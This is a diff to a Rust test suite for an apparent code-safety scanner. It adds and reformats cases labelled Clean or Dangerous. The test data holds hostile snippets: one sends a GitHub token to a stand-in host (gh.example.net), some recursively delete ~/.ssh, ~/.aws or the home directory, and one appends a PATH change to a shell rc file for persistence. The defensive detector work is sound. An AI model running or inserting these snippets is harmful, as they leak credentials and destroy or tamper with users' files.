@@ -599,11 +599,27 @@ fn values_built_through_comprehensions_and_splats() {
 fn endpoint_settings_from_the_environment() {
     let gh = "import os, requests\nT = os.environ['GITHUB_TOKEN']\n";
     for (api, verdict, category) in [
-        ("os.environ.get('GITHUB_API_URL', 'https://api.github.com')", Clean, ""),
-        ("os.environ.get('API_URL', 'https://api.github.com')", Clean, ""),
+        (
+            "os.environ.get('GITHUB_API_URL', 'https://api.github.com')",
+            Clean,
+            "",
+        ),
+        (
+            "os.environ.get('API_URL', 'https://api.github.com')",
+            Clean,
+            "",
+        ),
         ("os.environ['GITHUB_API_URL']", Clean, ""),
-        ("os.getenv('GITHUB_API_URL', 'https://gh.example.net')", Dangerous, "exfiltration"),
-        ("os.environ.get('API_URL', 'https://gh.example.net')", Dangerous, "exfiltration"),
+        (
+            "os.getenv('GITHUB_API_URL', 'https://gh.example.net')",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            "os.environ.get('API_URL', 'https://gh.example.net')",
+            Dangerous,
+            "exfiltration",
+        ),
     ] {
         let code = format!(
             "{gh}API = {api}\nrequests.get(API + '/user', headers={{'Authorization': 'token ' + T}})\n"
@@ -714,5 +730,29 @@ fn shell_functions_and_arrays_carry_values() {
         "dirs=(~/.ssh ~/.aws)\nfor d in \"${dirs[@]}\"; do\n  rm -rf \"$d\"\ndone\n",
         Dangerous,
         "destructive",
+    );
+}
+
+/// JavaScript arrays filtered or sorted keep their elements; `path.join` keeps each
+/// alternative of a part.
+#[test]
+fn javascript_arrays_and_joined_alternatives() {
+    check(
+        Ts,
+        "import * as os from 'node:os';\nimport { rmSync } from 'node:fs';\nconst scopes = [os.homedir(), './dist'].filter((p, i, a) => a.indexOf(p) === i);\nfor (const s of scopes) rmSync(s, { recursive: true, force: true });\n",
+        Dangerous,
+        "destructive",
+    );
+    check(
+        Ts,
+        "import { rmSync } from 'node:fs';\nconst dirs = ['./dist', './build'].filter(Boolean).sort();\nfor (const d of dirs) rmSync(d, { recursive: true, force: true });\n",
+        Clean,
+        "",
+    );
+    check(
+        Ts,
+        "import { homedir } from 'node:os';\nimport { join } from 'node:path';\nimport { appendFileSync } from 'node:fs';\nconst shell = process.env.SHELL?.endsWith('zsh') ? 'zsh' : 'bash';\nconst rc = join(homedir(), shell === 'zsh' ? '.zshrc' : '.bashrc');\nappendFileSync(rc, 'export PATH=./bin:$PATH');\n",
+        Dangerous,
+        "persistence",
     );
 }
